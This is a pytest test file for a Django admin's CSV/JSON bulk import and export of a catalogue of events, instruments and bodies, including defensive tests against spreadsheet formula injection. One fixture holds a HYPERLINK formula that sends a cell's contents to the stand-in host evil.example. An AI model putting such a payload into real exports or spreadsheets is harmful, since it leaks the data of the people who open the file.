"""
Bulk import and export in the admin, used as staff use it: the import form, its preview,
the confirm step, and the export form.
"""

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.admin.models import LogEntry
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pytest_django.asserts import assertContains, assertNotContains
from reversion.models import Revision, Version

from bodies.models import Body
from editorial.models import AuditAction, AuditEntry
from editorial.roles import EDITOR, PUBLISHER, grant
from events.models import Event
from events.resources import EventResource
from instruments.models import Instrument
from publishing.models import PublicationStatus
from tests.factories import built_once, make_article, make_body, make_event, make_instrument, make_series, make_topic

pytestmark = pytest.mark.django_db

DATA = Path(settings.BASE_DIR) / "dataset" / "data"
SAMPLE_CSV = DATA / "sample-import-2019.csv"
SAMPLE_JSON = DATA / "sample-import-2019.json"
CSV_FORMAT, JSON_FORMAT = "0", "1"
EVENT_COLUMNS = [
    "slug",
    "title_en",
    "title_fr",
    "series",
    "session_number",
    "start_date",
    "end_date",
    "date_precision",
    "status",
    "city_en",
    "city_fr",
    "country",
    "format",
    "wco_role",
    "convening_bodies",
    "topics",
    "instruments",
    "uncac_articles",
    "summary_en",
    "summary_fr",
    "contact_email",
]

INSTRUMENT_COLUMNS = [
    "slug",
    "title_en",
    "title_fr",
    "short_name_en",
    "short_name_fr",
    "kind",
    "issuing_body",
    "programme",
    "year_adopted",
    "year_revised",
    "url",
    "platform",
    "access",
    "uncac_articles",
    "topics",
    "description_en",
    "description_fr",
]
BODY_COLUMNS = [
    "slug",
    "name_en",
    "name_fr",
    "short_name_en",
    "short_name_fr",
    "kind",
    "parent",
    "country",
    "established_year",
    "website",
    "description_en",
    "description_fr",
]


@pytest.fixture
def editor(client):
    user = get_user_model().objects.create_user("editor", password="a long enough passphrase")
    grant(user, EDITOR)
    client.force_login(user)
    return user


def load_catalogue():
    call_command("loadcatalogue", verbosity=0)


seeded = built_once(load_catalogue, scope="class")


def admin_url(model, view):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}")


def event_row(slug, **values):
    """A row for a one-day event convened by the body "irg", with `values` changed."""
    return {"slug": slug, "title_en": f"Event {slug}", "start_date": "2019-05-27", "convening_bodies": "irg", **values}


def event_csv(*rows, columns=("slug", "title_en", "start_date", "end_date", "convening_bodies")):
    """A CSV file of events with the given columns, one dict per row."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


class _ConfirmFormParser(HTMLParser):
    """The hidden fields of the preview's confirm form, as a browser would post them."""

    def __init__(self):
        super().__init__()
        self.action = None
        self.fields = {}
        self.in_form = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and attrs.get("action", "").endswith("/process_import/"):
            self.in_form, self.action = True, attrs["action"]
        elif tag == "input" and self.in_form and attrs.get("type") == "hidden":
            self.fields[attrs["name"]] = attrs.get("value", "")

    def handle_endtag(self, tag):
        if tag == "form":
            self.in_form = False


def preview(client, model, content, name="events.csv", file_format=CSV_FORMAT):
    """Upload a file on the import page: the response is the preview."""
    upload = SimpleUploadedFile(name, content if isinstance(content, bytes) else content.encode())
    return client.post(admin_url(model, "import"), {"resource": "0", "format": file_format, "import_file": upload})


def confirm(client, preview_response):
    """Press "Confirm import" on a preview."""
    parser = _ConfirmFormParser()
    parser.feed(preview_response.content.decode())
    assert parser.action, "the preview offers no confirm button"
    return client.post(parser.action, {**parser.fields, "confirm": "Confirm import"})


def import_file(client, model, content, **options):
    response = preview(client, model, content, **options)
    assert response.status_code == 200
    assert response.context.get("confirm_form") is not None, response.context["result"].invalid_rows
    return confirm(client, response)


def totals(response):
    return {kind: count for kind, count in response.context["result"].totals.items() if count}


def footprint():
    """What an import writes, counted."""
    return {
        "events": Event.objects.count(),
        "instruments": Instrument.objects.count(),
        "bodies": Body.objects.count(),
        "revisions": Revision.objects.count(),
        "versions": Version.objects.count(),
        "audit": AuditEntry.objects.count(),
        "log": LogEntry.objects.count(),
        "lock_versions": sorted(Event.objects.values_list("slug", "lock_version")),
    }


def row_of(event):
    """The CSV row of `event` with the columns that event_csv writes by default."""
    return {
        "slug": event.slug,
        "title_en": event.title_en,
        "start_date": event.start_date.isoformat(),
        "end_date": event.end_date.isoformat(),
        "convening_bodies": ",".join(event.convening_bodies.values_list("slug", flat=True)),
    }


def export(client, model, file_format, resource):
    """Submit the export form with every column ticked."""
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    return client.post(admin_url(model, "export"), {"format": file_format, "resource": "0", **fields})


def staff_with(*codenames):
    """A staff member with exactly these permissions and no role."""
    user = get_user_model().objects.create_user("clerk", password="a long enough passphrase", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    return user


def test_the_changelist_offers_import_and_export(client, editor):
    for model in (Event, Instrument, Body):
        response = client.get(admin_url(model, "changelist"))

        assertContains(
            response, f"href='{admin_url(model, 'import')}' class=\"import_link\"", msg_prefix=model.__name__
        )
        assertContains(
            response, f'href="{admin_url(model, "export")}?" class="export_link"', msg_prefix=model.__name__
        )


def test_the_import_page_lists_the_columns_it_reads(client, editor):
    for model, columns in ((Event, EVENT_COLUMNS), (Instrument, INSTRUMENT_COLUMNS), (Body, BODY_COLUMNS)):
        [resource] = admin.site._registry[model].resource_classes

        response = client.get(admin_url(model, "import"))

        assert resource().get_export_headers() == columns, model.__name__
        assertContains(response, f"<code>{', '.join(columns)}</code>", html=True, msg_prefix=model.__name__)


class TestOnTheSeededCatalogue:
    """On the seeded catalogue, loaded once for the class: each test's import is rolled back."""

    def test_an_editor_imports_the_sample_into_the_seeded_catalogue_as_drafts(self, client, editor, seeded):
        """The preview shows the rows and writes nothing: only the confirmation does."""
        irg_10 = Event.objects.get(slug="irg-10")
        before = footprint()

        response = preview(client, Event, SAMPLE_CSV.read_bytes(), name=SAMPLE_CSV.name)

        assert response.status_code == 200
        assertContains(response, "Confirm import")
        assertContains(response, "wg-prevention-10")
        assert footprint() == before
        assert totals(response) == {"new": 2, "skip": 1}
        done = confirm(client, response)

        assert done.status_code == 302
        assertContains(client.get(done.url), "Import finished: 2 new, 0 updated, 0 deleted and 1 skipped events.")
        created = Event.objects.filter(slug__in=["wg-prevention-10", "cosp-8"])
        assert created.count() == 2
        for event in created:
            assert event.publication_status == PublicationStatus.DRAFT
            assert event.publish_at is None and event.first_published_at is None
            assert event.lock_version == 0
        wg = created.get(slug="wg-prevention-10")
        assert (wg.series.slug, wg.session_number, str(wg.start_date), str(wg.end_date)) == (
            "wg-prevention-meetings",
            10,
            "2019-09-04",
            "2019-09-06",
        )
        assert [body.slug for body in created.get(slug="cosp-8").convening_bodies.all()] == ["cosp"]
        assert Event.objects.get(slug="irg-10").lock_version == irg_10.lock_version

    def test_a_json_file_imports_like_its_csv_twin(self, client, editor, seeded):
        csv_rows = list(csv.DictReader(io.StringIO(SAMPLE_CSV.read_text(encoding="utf-8"))))
        assert json.loads(SAMPLE_JSON.read_text(encoding="utf-8")) == csv_rows

        response = preview(client, Event, SAMPLE_JSON.read_bytes(), name=SAMPLE_JSON.name, file_format=JSON_FORMAT)

        assert totals(response) == {"new": 2, "skip": 1}
        confirm(client, response)
        assert Event.objects.filter(slug__in=["wg-prevention-10", "cosp-8"], publication_status="draft").count() == 2


def test_a_confirmed_import_is_a_revision_by_its_user_and_is_audited(client, editor):
    body = make_body(slug="irg")

    import_file(
        client,
        Event,
        event_csv({"slug": "irg-9", "title_en": "9th session", "start_date": "2018-06-04", "convening_bodies": "irg"}),
        name="june.csv",
    )

    event = Event.objects.get(slug="irg-9")
    [version] = Version.objects.get_for_object(event)
    assert version.revision.user == editor
    assert version.revision.comment == "Imported from june.csv"
    assert version.field_dict["convening_bodies"] == [body.pk]
    [entry] = AuditEntry.objects.about(event)
    assert (entry.action, entry.user, entry.detail) == (AuditAction.IMPORT, editor, "created from june.csv")
    history = client.get(reverse("admin:events_event_history", args=[event.pk]))
    assertContains(history, "Imported from june.csv")


def test_one_bad_row_writes_nothing_and_the_preview_names_it_with_its_reason(client, editor):
    make_body(slug="irg")
    rows = [event_row("good-1"), event_row("bad", start_date="2019-05-29", end_date="2019-05-27"), event_row("good-2")]
    before = footprint()

    response = preview(client, Event, event_csv(*rows))

    assert response.context.get("confirm_form") is None
    [invalid] = response.context["result"].invalid_rows
    assert invalid.number == 2
    assert invalid.error_dict == {"end_date": ["The event cannot end before it starts."]}
    assertContains(response, "The event cannot end before it starts.")
    assertContains(response, "Nothing can be imported from this file until every row is valid")
    assert footprint() == before


def test_a_row_that_fails_on_confirmation_undoes_the_whole_file(client, editor):
    """The catalogue may change between the preview and the confirmation."""
    make_body(slug="irg")
    rows = [event_row("first"), event_row("second", start_date="2019-06-01")]
    response = preview(client, Event, event_csv(*rows))
    make_event("Second, published meanwhile", start="2019-06-01", slug="second")
    before = footprint()

    done = confirm(client, response)

    assert done.status_code == 302
    assert done.url == admin_url(Event, "import")
    page = client.get(done.url)
    assertContains(page, "Nothing was imported")
    assertContains(page, "Row 2: “second” has changed since the preview")
    assert footprint() == before


def test_constraint_violations_and_unknown_keys_are_row_errors_that_name_the_value(client, editor):
    make_body(slug="irg")
    columns = ("slug", "title_en", "start_date", "series", "session_number", "format", "convening_bodies", "topics")
    rows = [
        event_row("a", start_date="27/05/2019"),
        event_row("b", format="virtual"),
        event_row("c", session_number="3"),
        event_row("d", series="no-such-series"),
        event_row("e", convening_bodies="irg,no-such-body"),
        event_row("f", topics="no-such-topic"),
        event_row("g", title_en="", convening_bodies=""),
        event_row("h", session_number="ten"),
    ]

    response = preview(client, Event, event_csv(*rows, columns=columns))

    assert response.status_code == 200
    errors = {row.number: row.error_dict for row in response.context["result"].invalid_rows}
    assert errors == {
        1: {"start_date": ["“27/05/2019” is not a date written as YYYY-MM-DD."]},
        2: {"format": ["Value 'virtual' is not a valid choice."]},
        3: {"series": ["A session number needs the series it belongs to."]},
        4: {"series": ["No series has the slug “no-such-series”."]},
        5: {"convening_bodies": ["No body has the slug “no-such-body”."]},
        6: {"topics": ["No topic has the slug “no-such-topic”."]},
        7: {"title": ["This field cannot be blank."], "convening_bodies": ["This field cannot be blank."]},
        8: {"session_number": ["“ten” is not a whole number."]},
    }
    assertContains(response, "No body has the slug “no-such-body”.")
    assert not Event.objects.exists()


def test_reimporting_the_same_file_changes_nothing(client, editor):
    series = make_series(slug="irg-sessions", body=make_body(slug="irg"))
    make_topic(slug="asset-recovery")
    make_article(number=52)
    columns = ("slug", "title_en", "title_fr", "series", "session_number", "start_date", "end_date")
    columns += ("date_precision", "country", "convening_bodies", "topics", "uncac_articles", "summary_fr")
    row = {
        "slug": "irg-10",
        "title_en": "10th session",
        "series": series.slug,
        "session_number": "10",
        "start_date": "2019-05-27",
        "end_date": "2019-05-29",
        "date_precision": "day",
        "country": "AT",
        "convening_bodies": "irg",
        "topics": "asset-recovery",
        "uncac_articles": "52",
    }
    one_day = {**row, "slug": "one-day", "session_number": "", "series": "", "end_date": ""}
    content = event_csv(row, one_day, columns=columns)
    import_file(client, Event, content)
    before = footprint()

    response = preview(client, Event, content)

    assert totals(response) == {"skip": 2}
    confirm(client, response)
    assert footprint() == before


def test_a_row_that_would_change_a_published_record_is_rejected(client, editor):
    body = make_body(slug="irg")
    event = make_event("10th session", start="2019-05-27", slug="irg-10", bodies=[body])
    before = footprint()

    response = preview(client, Event, event_csv({**row_of(event), "title_en": "Tenth session"}))

    assert response.context.get("confirm_form") is None
    [invalid] = response.context["result"].invalid_rows
    assert invalid.non_field_specific_errors == [
        "“irg-10” is published: a publisher must unpublish it before an import can change it."
    ]
    assertContains(response, "a publisher must unpublish it")
    assert footprint() == before


def test_a_row_that_would_change_a_body_that_published_records_show_is_rejected(client, editor):
    shown = make_body("Implementation Review Group", slug="irg")
    make_event(bodies=[shown])
    make_event(bodies=[make_body("Drafting group", slug="drafting")], publication_status=PublicationStatus.DRAFT)
    content = "slug,name_en,kind\nirg,Renamed group,wco_body\ndrafting,Renamed drafting group,wco_body\n"

    response = preview(client, Body, content, name="bodies.csv")

    [invalid] = response.context["result"].invalid_rows
    assert invalid.non_field_specific_errors == [
        "“irg” is shown by published records: change it in the admin, where a publisher reviews it."
    ]
    assert Body.objects.get(slug="irg").name == "Implementation Review Group"


def test_a_publisher_cannot_change_a_published_record_by_import_either(client, editor):
    grant(editor, PUBLISHER)
    event = make_event("10th session", start="2019-05-27", slug="irg-10")

    response = preview(client, Event, event_csv({**row_of(event), "start_date": "2019-05-28"}))

    assert response.context["result"].has_validation_errors()


def test_a_row_may_change_a_draft_or_a_record_in_review(client, editor):
    body = make_body(slug="irg")
    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
    in_review = make_event("In review", slug="in-review", bodies=[body], publication_status="in_review")
    rows = [
        {**row_of(draft), "title_en": "Draft, corrected"},
        {**row_of(in_review), "title_en": "In review, corrected"},
    ]

    response = preview(client, Event, event_csv(*rows))

    assert totals(response) == {"update": 2}
    confirm(client, response)
    draft.refresh_from_db()
    in_review.refresh_from_db()
    assert (draft.title, draft.publication_status, draft.lock_version) == ("Draft, corrected", "draft", 1)
    assert (in_review.title, in_review.publication_status) == ("In review, corrected", "in_review")
    assert AuditEntry.objects.about(draft).get().detail == "updated from events.csv"


def test_the_publication_columns_of_a_file_are_ignored(client, editor):
    make_body(slug="irg")
    columns = ("slug", "title_en", "start_date", "convening_bodies", "publication_status", "publish_at")
    columns += ("first_published_at", "lock_version")
    row = {
        "slug": "irg-10",
        "title_en": "10th session",
        "start_date": "2019-05-27",
        "convening_bodies": "irg",
        "publication_status": "published",
        "publish_at": "2019-06-01 00:00:00",
        "first_published_at": "2019-06-01 00:00:00",
        "lock_version": "41",
    }

    import_file(client, Event, event_csv(row, columns=columns))

    event = Event.objects.get(slug="irg-10")
    assert event.publication_status == PublicationStatus.DRAFT
    assert (event.publish_at, event.first_published_at, event.lock_version) == (None, None, 0)
    assert not Event.objects.published().exists()


def test_the_export_holds_the_allowed_columns_of_every_event_drafts_included(client, editor):
    make_event("Published", slug="published", uncac_articles=[make_article(number=7), make_article(number=8)])
    make_event("Draft", slug="draft", publication_status=PublicationStatus.DRAFT)

    as_csv = export(client, Event, CSV_FORMAT, EventResource)
    as_json = export(client, Event, JSON_FORMAT, EventResource)

    assert as_csv.status_code == as_json.status_code == 200
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert list(rows[0]) == EVENT_COLUMNS
    assert {row["slug"] for row in rows} == {"published", "draft"}
    records = json.loads(as_json.content)
    assert all(list(record) == EVENT_COLUMNS for record in records)
    assert {record["slug"]: record["uncac_articles"] for record in records} == {"published": "7,8", "draft": ""}


def a_little_catalogue():
    wco = make_body("World Customs Organization", slug="wco", country="BE", established_year=1952)
    isc = make_body("Integrity Sub-Committee", slug="isc", parent=wco, name_fr="Sous-comité sur l'éthique")
    programme = make_instrument("A-CIP Programme", slug="a-cip", kind="programme", issuing_body=wco)
    make_instrument(
        "Corruption perception survey",
        slug="cips",
        kind="survey",
        programme=programme,
        year_adopted=2024,
        uncac_articles=[make_article(number=7), make_article(number=8)],
        topics=[make_topic(slug="integrity-measurement")],
        publication_status=PublicationStatus.DRAFT,
    )
    series = make_series(slug="isc-sessions", body=isc)
    make_event(
        "24th session",
        start="2025-02-03",
        end="2025-02-04",
        slug="isc-24",
        series=series,
        session_number=24,
        bodies=[isc],
        instruments=[programme],
        country="BE",
    )
    make_event("15th session", start="2016-01-01", slug="isc-15", date_precision="year", title_fr="15e session")


little_catalogue = built_once(a_little_catalogue, scope="class")


class TestOnALittleCatalogue:
    """On a little catalogue, built once for the class: its tests only export and preview."""

    def test_an_exported_file_imports_back_unchanged(self, client, editor, little_catalogue):
        for model in (Event, Instrument, Body):
            [resource] = admin.site._registry[model].resource_classes
            for file_format, name in ((CSV_FORMAT, "CSV"), (JSON_FORMAT, "JSON")):
                exported = export(client, model, file_format, resource).content
                before = footprint()

                response = preview(client, model, exported, name="exported", file_format=file_format)

                case = f"{model.__name__} in {name}"
                assert totals(response) == {"skip": model.objects.count()}, case
                assert footprint() == before, case


def test_bodies_and_instruments_import_with_their_links(client, editor):
    make_topic(slug="staff-rotation")
    make_article(number=7)
    bodies = "slug,name_en,name_fr,kind,parent,country,established_year\n"
    bodies += "wco,World Customs Organization,Organisation mondiale des douanes,international_organisation,,,1952\n"
    bodies += "isc,Integrity Sub-Committee,,wco_body,wco,,\n"
    instruments = "slug,title_en,kind,issuing_body,programme,year_adopted,topics,uncac_articles\n"
    instruments += "a-cip,A-CIP Programme,programme,wco,,2019,,\n"
    instruments += "cips,Corruption perception survey,survey,isc,a-cip,2024,staff-rotation,7\n"

    import_file(client, Body, bodies, name="bodies.csv")
    import_file(client, Instrument, instruments, name="instruments.csv")

    assert Body.objects.get(slug="isc").parent.slug == "wco"
    assert Body.objects.get(slug="wco").name_fr == "Organisation mondiale des douanes"
    survey = Instrument.objects.get(slug="cips")
    assert (survey.programme.slug, survey.issuing_body.slug, survey.year_adopted) == ("a-cip", "isc", 2024)
    assert [article.number for article in survey.uncac_articles.all()] == [7]
    assert survey.publication_status == PublicationStatus.DRAFT


def test_a_programme_must_be_an_instrument_of_that_kind(client, editor):
    make_instrument("A guide", slug="guide", publication_status="draft")
    content = "slug,title_en,kind,programme\ncips,Survey,survey,guide\n"

    response = preview(client, Instrument, content, name="instruments.csv")

    [invalid] = response.context["result"].invalid_rows
    assert invalid.error_dict == {"programme": ["No programme has the slug “guide”."]}


def test_importing_needs_the_add_permission(client):
    client.force_login(staff_with("view_event", "change_event"))
    upload = SimpleUploadedFile("events.csv", SAMPLE_CSV.read_bytes())

    assert client.get(admin_url(Event, "import")).status_code == 403
    assert client.post(admin_url(Event, "import"), {"format": CSV_FORMAT, "import_file": upload}).status_code == 403
    assert client.post(admin_url(Event, "process_import"), {"format": CSV_FORMAT}).status_code == 403
    assertNotContains(client.get(admin_url(Event, "changelist")), admin_url(Event, "import"))
    assert not Event.objects.exists()


def test_exporting_needs_the_view_permission(client):
    make_event("Draft", slug="draft", publication_status=PublicationStatus.DRAFT)
    client.force_login(staff_with("view_body"))

    assert client.get(admin_url(Event, "export")).status_code == 403
    assert export(client, Event, CSV_FORMAT, EventResource).status_code == 403


# What a spreadsheet would run as a formula, and texts that only look like one.
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&B2,"open")'


def a_catalogue_of_formulas():
    """Records whose texts begin as formulas do, as an editor may legitimately write them."""
    wco = make_body("=1+1 body", slug="wco", name_fr="@wco", short_name_en="-WCO", description_en="\tIndented")
    make_instrument(
        "+ plus sign guide",
        slug="guide",
        short_name_en="=SUM(A1:A9)",
        issuing_body=wco,
        description_en="\rA carriage return",
        publication_status=PublicationStatus.DRAFT,
    )
    make_event(
        FORMULA_TITLE,
        slug="hostile",
        bodies=[wco],
        title_fr="'=quoted already",
        city_en="-Vienna",
        summary_en="@SUM(1)",
        summary_fr="\tTab",
        publication_status=PublicationStatus.DRAFT,
    )


formulas = built_once(a_catalogue_of_formulas, scope="class")


class TestOnACatalogueOfFormulas:
    """
    On records whose texts begin as formulas, built once for the class: its tests export them
    and import the export back, which writes nothing.
    """

    @pytest.mark.parametrize("model", [Event, Instrument, Body])
    def test_no_cell_of_a_csv_export_starts_a_formula_and_the_file_imports_back_unchanged(
        self, client, editor, formulas, model
    ):
        [resource] = admin.site._registry[model].resource_classes
        before = footprint()

        exported = export(client, model, CSV_FORMAT, resource).content
        cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]

        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        response = preview(client, model, exported, name="exported.csv")
        assert totals(response) == {"skip": model.objects.count()}
        confirm(client, response)
        assert footprint() == before

    def test_a_formula_in_a_csv_export_is_quoted_and_read_back_as_it_was(self, client, editor, formulas):
        exported = export(client, Event, CSV_FORMAT, EventResource).content.decode("utf-8-sig")
        as_json = json.loads(export(client, Event, JSON_FORMAT, EventResource).content)

        [row] = csv.DictReader(io.StringIO(exported))
        assert (row["title_en"], row["title_fr"]) == (f"'{FORMULA_TITLE}", "''=quoted already")
        assert (row["city_en"], row["summary_en"], row["summary_fr"]) == ("'-Vienna", "'@SUM(1)", "'\tTab")
        [record] = as_json
        assert (record["title_en"], record["title_fr"], record["summary_fr"]) == (
            FORMULA_TITLE,
            "'=quoted already",
            "\tTab",
        )


def test_a_quote_before_a_formula_in_a_csv_file_is_not_imported(client, editor):
    make_body(slug="irg")
    rows = [event_row("a", title_en="'=1+1"), event_row("b", title_en="''@twice"), event_row("c", title_en="'quoted")]

    import_file(client, Event, event_csv(*rows))

    assert dict(Event.objects.values_list("slug", "title_en")) == {"a": "=1+1", "b": "'@twice", "c": "'quoted"}


def test_a_json_file_is_imported_as_it_is_written_and_may_list_linked_records(client, editor):
    """Unlike a CSV cell, a JSON text that begins with a quote keeps it; linked records may be a list."""
    make_body(slug="irg")
    make_body(slug="unodc")
    content = json.dumps([event_row("a", title_en="'=1+1", convening_bodies=["irg", "unodc"])])

    import_file(client, Event, content, name="e.json", file_format=JSON_FORMAT)

    event = Event.objects.get()
    assert event.title_en == "'=1+1"
    assert sorted(event.convening_bodies.values_list("slug", flat=True)) == ["irg", "unodc"]


def changed_meanwhile(event, how):
    """Change `event` as staff may between an import's preview and its confirmation."""
    if how == "title edited":
        # Even by a bulk update, which leaves the lock_version as it was.
        Event.objects.filter(pk=event.pk).update(title_en="Edited meanwhile")
    else:
        event.publication_status = {"submitted": "in_review", "published": "published"}[how]
        event.save()


@pytest.mark.parametrize("how", ["title edited", "submitted", "published"])
def test_a_record_changed_after_the_preview_is_not_overwritten(client, editor, how):
    body = make_body(slug="irg")
    make_event("Untouched", slug="untouched", bodies=[body], publication_status="draft")
    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
    response = preview(client, Event, event_csv(event_row("new"), {**row_of(draft), "title_en": "Draft, corrected"}))
    assert totals(response) == {"new": 1, "update": 1}
    changed_meanwhile(draft, how)
    before = footprint()
    stored = Event.objects.filter(pk=draft.pk).values().get()

    done = confirm(client, response)

    assert done.status_code == 302
    assert done.url == admin_url(Event, "import")
    page = client.get(done.url)
    assertContains(page, "Nothing was imported")
    assertContains(page, "Row 2: “draft” has changed since the preview. Import the file again")
    assert footprint() == before
    assert Event.objects.filter(pk=draft.pk).values().get() == stored


def test_a_record_created_or_deleted_after_the_preview_is_not_written_over(client, editor):
    body = make_body(slug="irg")
    gone = make_event("Gone", slug="gone", bodies=[body], publication_status="draft")
    response = preview(client, Event, event_csv(event_row("created"), {**row_of(gone), "title_en": "Gone, corrected"}))
    make_event("Created meanwhile", slug="created", bodies=[body], publication_status="draft")
    gone.delete()
    before = footprint()

    page = client.get(confirm(client, response).url)

    assertContains(page, "Row 1: “created” has changed since the preview.")
    assertContains(page, "Row 2: “gone” has changed since the preview.")
    assert footprint() == before
    assert Event.objects.get(slug="created").title_en == "Created meanwhile"


def test_changes_to_other_records_do_not_stop_an_import(client, editor):
    body = make_body(slug="irg")
    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
    other = make_event("Other", slug="other", bodies=[body], publication_status="draft")
    response = preview(client, Event, event_csv({**row_of(draft), "title_en": "Draft, corrected"}))
    other.title_en = "Other, edited"
    other.save()

    with CaptureQueriesContext(connection) as queries:
        done = confirm(client, response)

    assert done.url == admin_url(Event, "changelist")
    assert Event.objects.get(slug="draft").title_en == "Draft, corrected"
    if connection.features.has_select_for_update:
        assert any(" FOR UPDATE" in query["sql"] for query in queries.captured_queries)


def test_a_confirmation_without_the_state_its_preview_saw_is_refused(client, editor):
    body = make_body(slug="irg")
    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
    response = preview(client, Event, event_csv({**row_of(draft), "title_en": "Draft, corrected"}))
    parser = _ConfirmFormParser()
    parser.feed(response.content.decode())
    before = footprint()

    for forged in ({"previewed_states": "forged"}, {"previewed_states": ""}):
        page = client.post(parser.action, {**parser.fields, **forged, "confirm": "Confirm import"})

        assert page.status_code == 200
        assertContains(page, "This preview can no longer be confirmed. Import the file again.")
        assertNotContains(page, "Confirm import")
    assert footprint() == before
